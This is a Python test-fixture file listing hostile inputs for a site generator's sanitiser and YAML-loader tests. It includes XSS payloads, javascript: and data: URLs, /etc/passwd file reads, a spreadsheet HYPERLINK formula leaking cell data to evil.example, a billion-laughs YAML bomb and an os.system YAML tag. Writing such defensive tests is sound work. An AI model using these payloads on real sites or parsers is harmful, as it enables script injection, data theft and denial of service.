"""A corpus of hostile text, for the sanitising tests (test_hostile.py, test_properties.py).

Every text field of an entity file is untrusted. The corpus is split by what must happen to it:

- `REFUSED`: validation refuses it in every text field (plain and prose), with this message;
- `REFUSED_LINKS`: Markdown links and images; prose fields refuse them unless they link to an
  http(s) address, plain fields refuse every link;
- `ACCEPTED`: validation lets it through in every text field; it must reach the page as exactly
  the same text, with nothing interpreted (no element, attribute, link or entity from it);
- `ACCEPTED_PLAIN_ONLY`, `ACCEPTED_PROSE_ONLY`, `ACCEPTED_PROSE_BLOCKS` (several paragraphs):
  accepted in one kind of field only, and then shown as typed;
- URLs accepted and refused, and whole files the YAML loader must refuse.

Payloads stay free of the characters the loader refuses (controls, bidi overrides), except in
`FILES_REFUSED`, which is about exactly those.
"""
from __future__ import annotations

# -- refused everywhere ---------------------------------------------------------------------------

HTML = "HTML is not allowed"
ATTR_LIST = "attribute lists"
ATTRIBUTE = "reads as an HTML attribute"
SCHEME = "script or data URLs are not allowed"
SNIPPET = "`--8<--` is not allowed"

REFUSED: list[tuple[str, str]] = [
    ("<script>alert(1)</script>", HTML),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", HTML),
    ("<img src=x onerror=alert(1)>", HTML),
    ("<img src=x onerror=alert(1) x", HTML),  # never closed: nh3.is_html misses it, the theme's header would not
    ("<svg/onload=alert(1)>", HTML),
    ("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", HTML),
    ("<svg><script>alert(1)</script></svg>", HTML),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", HTML),
    ("<math href=javascript:alert(1)>x</math>", HTML),
    ("<iframe src=\"javascript:alert(1)\"></iframe>", HTML),
    ("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", HTML),
    ("<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>", HTML),
    ("<embed src=javascript:alert(1)>", HTML),
    ("<a href=\"javascript:alert(1)\">click</a>", HTML),
    ("<form action=javascript:alert(1)><button>go</button></form>", HTML),
    ("<button formaction=javascript:alert(1)>go</button>", HTML),
    ("<details open ontoggle=alert(1)>", HTML),
    ("<style>@import 'https://evil.example/x.css'</style>", HTML),
    ("<base href=https://evil.example/>", HTML),
    ("<meta http-equiv=refresh content=0;url=https://evil.example/>", HTML),
    ("<!-- hidden -->", HTML),
    ("<!DOCTYPE html>", HTML),
    ("<?xml version='1.0'?>", HTML),
    ("<![CDATA[x]]>", HTML),
    ("</textarea><script>alert(1)</script>", HTML),
    ("</title><script>alert(1)</script>", HTML),
    ("<https://evil.example/>", HTML),  # Markdown autolink
    ("<javascript:alert(1)>", HTML),
    ("<mailto:someone@evil.example>", HTML),
    ("<div markdown=\"1\">x</div>", HTML),
    ("x {: onclick=\"alert(1)\" }", ATTR_LIST),
    ("x {#id .class}", ATTR_LIST),
    ("x { onclick=alert(1) }", ATTR_LIST),
    ("x{.md-button}", ATTR_LIST),
    ("x {:target=_blank}", ATTR_LIST),
    ("javascript:alert(1)", SCHEME),
    ("JaVaScRiPt :alert(document.cookie)", SCHEME),
    ("[x](javascript:alert(1))", SCHEME),
    ("vbscript:msgbox(1)", SCHEME),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", SCHEME),
    ("file:///etc/passwd", SCHEME),
    ("x\" onmouseover=\"alert(1)", ATTRIBUTE),
    ("0;url=https://evil.example/\" http-equiv=\"refresh", ATTRIBUTE),  # a meta refresh, were the quote to break out
    ("x' onfocus='alert(1)' autofocus='", ATTRIBUTE),
    ("x\"onclick=alert(1)", ATTRIBUTE),
    ("onerror=alert(1)", ATTRIBUTE),
    ("--8<-- \"/etc/passwd\"", SNIPPET),
    (";--8<-- \"docs/index.md\"", SNIPPET),
]

# -- links: prose fields allow [label](http(s) URL) only; plain fields no links at all ------------

LINK_TARGET = "is not allowed — links go to http"
IMAGES = "images are not allowed"
NO_LINKS = "links are not allowed in a name"

# (payload, message in prose fields); plain fields refuse each with NO_LINKS
REFUSED_LINKS: list[tuple[str, str]] = [
    ("[x](//evil.example/)", LINK_TARGET),
    ("[x](relative/page.md)", LINK_TARGET),
    ("[x](mailto:someone@evil.example)", LINK_TARGET),
    ("[x](#top)", LINK_TARGET),
    ("[x]( ftp://evil.example/)", LINK_TARGET),
    ("![x](https://evil.example/x.png)", IMAGES),
    ("![x][1]", IMAGES),
]
# plain fields refuse these (NO_LINKS); prose fields accept them
PLAIN_REFUSED_PROSE_ACCEPTED: list[str] = [
    "[x](https://evil.example/)",
    "[x][1] [1]: https://evil.example/",
    "[x] [1] and [1]: https://evil.example/",
]

# -- accepted: must reach the page as the same text ---------------------------------------------

ACCEPTED: list[str] = [
    # entity-encoded and otherwise disguised markup: shown as typed, never decoded into markup
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&#60;img src=x&#62; &#0; &#xD800; &#9;",
    "&amp;lt;b&amp;gt; double &amp;amp; encoded",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003e \\x3cscript\\x3e",
    "javascript&colon;alert(1) java&#x73;cript:alert(1)",
    "data:,alert(1)",
    "&lt;!-- comment --&gt; --> ]]> <- <=",
    "&lt;svg onload&#61;alert(1)&gt;",
    # text that merely looks like markup
    "a < b > c <3 <- << >>",
    "Abu \"the Pakistani\" al-Khorasani's men",
    "x\" autofocus data-x",  # a quote and words, no `=`: plain text, but would break a raw attribute
    "'; alert(1); // \"); alert(1); //",
    "[^1] and [^1]: a footnote",
    "[TOC]",
    "///Footnotes Go Here///",
    "--8&lt;-- \"docs/index.md\"",
    "---",
    "--- title: injected ---",
    "`code` and ```fence``` and ``two``",
    "a | b | c",
    "| --- | --- |",
    "# heading",
    "> quote",
    "- item",
    "1. item",
    "2017. a year",
    "+ item",
    "* item",
    "!!! danger \"Admonition\"",
    "??? note",
    "{{ config.site_name }} {% raw %} {%",
    "__dunder__ _em_ ~~strike~~ ^^ins^^ ==mark== ++ctrl++",
    ":smile: :material-alert:",
    "*[HTML]: Hyper Text",
    "\\* not \\[escaped\\] \\",
    "$$ x $$ \\( y \\)",
    "@import url(https://evil.example/x.css) expression(alert(1))",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")",  # a formula, were a spreadsheet to open the CSV
    "1) one 2) two",
    "Term : definition",
    "a = b == c",
    # Unicode tricks
    "ＪａｖａＳｃｒｉｐｔ：alert(1) ＜script＞ ｛：onclick｝",
    "داعش — ولاية خراسان (ISKP)",
    "joiners: می\u200cخواهم क्\u200dष ZWNJ\u200cZWJ\u200d",  # ZWNJ and ZWJ are the only format characters allowed
    "Caf\u00e9 and Cafe\u0301 decomposed",
    "emoji 🏴\u200d☠ and ﷽",  # (with no variation selector: those are refused)
    "\u0130stanbul \u0131 ß ﬁ",
]

# Plain fields show these as typed; prose renders them (our small Markdown subset), so they are
# not expected verbatim there.
ACCEPTED_PLAIN_ONLY: list[str] = ["**strong** *em* [[hafiz-example]] [[khorasan-province|label]]"]
# Prose only: reference-style links and several paragraphs; none may become a link or a block.
ACCEPTED_PROSE_ONLY: list[str] = ["[x][1] [1]: https://evil.example/", "[x] [1] and [1]: https://evil.example/"]
ACCEPTED_PROSE_BLOCKS: list[str] = [
    "first paragraph\n\n- list item\n\n1. numbered\n\n---\n\n# heading\n\n    indented\n\n> quote",
    "[x][1]\n\n[1]: https://evil.example/",
    "text[^1]\n\n[^1]: footnote text",
    "Term\n: definition\n\n*[TOC]: x",
    "line one  \nline two\n===",
    "| a | b |\n|---|---|\n| c | d |",
    "///Footnotes Go Here///\n\n///Footnotes Go Here///",
]

# -- URLs ------------------------------------------------------------------------------------------

URLS_ACCEPTED: list[str] = [
    "https://example.org/search?q=javascript:alert(1)&r=data:text/html,x&s=vbscript:y",
    "https://example.org/a(b)[c]{d}|e\\f^g",
    "https://example.org/)](javascript:alert(1))",
    "https://example.org/**x**_y_~z~!$",
    "https://example.org/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "http://example.org/#x){:onclick=alert(1)}",
    "https://例え.jp/パス?q=داعش",
]
URLS_REFUSED: list[str] = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/<script>",
    "https://example.org/`x`",
    "//evil.example/",
    "ftp://evil.example/",
    "https://exa mple.org/",
]

# -- whole files the loader refuses ----------------------------------------------------------------

BILLION_LAUGHS = "\n".join(
    ["id: x", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]) + "\n"

# (name, file bytes, line, col, message fragment)
FILES_REFUSED: list[tuple[str, bytes, int, int, str]] = [
    ("billion laughs", BILLION_LAUGHS.encode(), 2, 4, "anchors (`&name`) are not allowed"),
    ("alias", b"id: x\nname: &n Bob\naliases: *n\n", 2, 7, "anchors"),
    ("merge key", b"id: x\nbase: {name: x}\n<<: *base\n", 3, 5, "aliases (`*name`) are not allowed"),
    ("python tag", b"id: x\nname: !!python/object/apply:os.system [\"id\"]\n", 2, 7, "the tag"),
    ("custom tag", b"id: x\nname: !evil x\n", 2, 7, "the tag"),
    ("bidi override", "id: x\nname: \"Abu \u202eevil\"\n".encode(), 2, 12, "U+202E"),
    ("bidi isolate", "id: x\nname: a\u2066b\n".encode(), 2, 8, "U+2066"),
    ("line separator", "id: x\nname: Abu\u2028type: city\n".encode(), 2, 10, "U+2028"),
    ("paragraph separator", "id: x\nname: Abu\u2029x\n".encode(), 2, 10, "U+2029"),
    ("next line", "id: x\nname: Abu\u0085x\n".encode(), 2, 10, "U+0085"),
    # every other format character, raw or escaped (textcheck.refused_character): zero-width,
    # bidi marks, tags, variation selectors, invisible operators
    ("zero-width space", "id: x\nname: java\u200bscript\n".encode(), 2, 11, "U+200B ZERO WIDTH SPACE"),
    ("escaped zero-width space", b'id: x\nname: "java\\u200bscript:alert(1)"\n', 2, 7, "U+200B ZERO WIDTH SPACE"),
    ("right-to-left mark", "id: x\nname: mixed \u200fRLM\n".encode(), 2, 13, "U+200F RIGHT-TO-LEFT MARK"),
    ("escaped left-to-right mark", b'id: x\nname: "mixed \\u200eLRM"\n', 2, 7, "U+200E LEFT-TO-RIGHT MARK"),
    ("variation selector", "id: x\nname: \u2620\ufe0f\n".encode(), 2, 8, "U+FE0F VARIATION SELECTOR-16"),
    ("tag characters", "id: x\nname: flag\U000e0067\U000e0062\U000e007f\n".encode(), 2, 11, "U+E0067 TAG LATIN SMALL LETTER G"),
    ("escaped word joiner", b'id: x\nname: "a\\u2060b"\n', 2, 7, "U+2060 WORD JOINER"),
    ("lone carriage return", b"id: x\nname: Abu\rtype: city\n", 2, 10, "U+000D"),
    ("form feed", b"id: x\nname: Abu\x0cx\n", 2, 10, "U+000C"),
    ("NUL", b"id: x\nname: Abu\x00x\n", 2, 10, "U+0000"),
    ("escape", b"id: x\nname: Abu\x1b[31mx\n", 2, 10, "U+001B"),
    ("byte-order mark", b"\xef\xbb\xbfid: x\n", 1, 1, "byte-order mark"),
    ("not UTF-8", b"id: x\nname: Caf\xe9\n", 2, 10, "not valid UTF-8"),
    ("two documents", b"id: x\n---\nid: y\n", 2, 1, "another document"),
    ("front-matter breaker", b"---\nid: x\n---\n<script>alert(1)</script>\n", 3, 1, "another document"),
    ("tab indentation", b"id: x\naliases:\n\t- name: y\n", 3, 1, "tab"),
    ("deep flow nesting", b"id: x\nnotes: " + b"[" * 5000 + b"]" * 5000 + b"\n", 2, 24, "nested more than 16 levels"),
    ("deep block nesting", b"id: x\nnotes:\n" + b"".join(b"  " * i + b"- \n" for i in range(40)), 19, 33, "nested more than 16 levels"),
    ("oversized", b"id: x\nname: x\nnotes:\n" + b"  - text: " + b"x" * 300_000 + b"\n", 1, 1, "over the 256 KB limit"),
]
